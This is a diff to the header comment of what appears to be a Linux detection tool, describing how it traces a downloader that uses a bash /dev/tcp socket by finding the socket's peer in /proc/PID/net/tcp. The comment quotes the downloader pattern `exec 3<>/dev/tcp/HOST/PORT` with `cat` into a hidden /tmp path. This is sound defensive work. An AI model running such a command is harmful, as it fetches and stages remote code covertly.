@@ -3,9 +3,9 @@
  * drop_tcp.c - the downloader that names no file: a shell that opened a
  * TCP connection itself (bash `exec 3<>/dev/tcp/HOST/PORT`, then `cat <&3
  * > /tmp/.x/m`). Used by drop_sensor.c when a fresh program in a temp or
- * hidden directory runs and no downloader's arguments name it: the
- * program, or the shell that runs it, still holds a TCP socket (the
- * /dev/tcp descriptor stays open in the shell and its children). Its peer
+ * hidden directory runs and no downloader's arguments name it: the shell
+ * that runs it still holds a TCP socket (the /dev/tcp descriptor stays
+ * open in the shell). Its peer
  * comes from /proc/PID/net/tcp{,6} (the process's own network namespace)
  * by the socket's inode.
  *
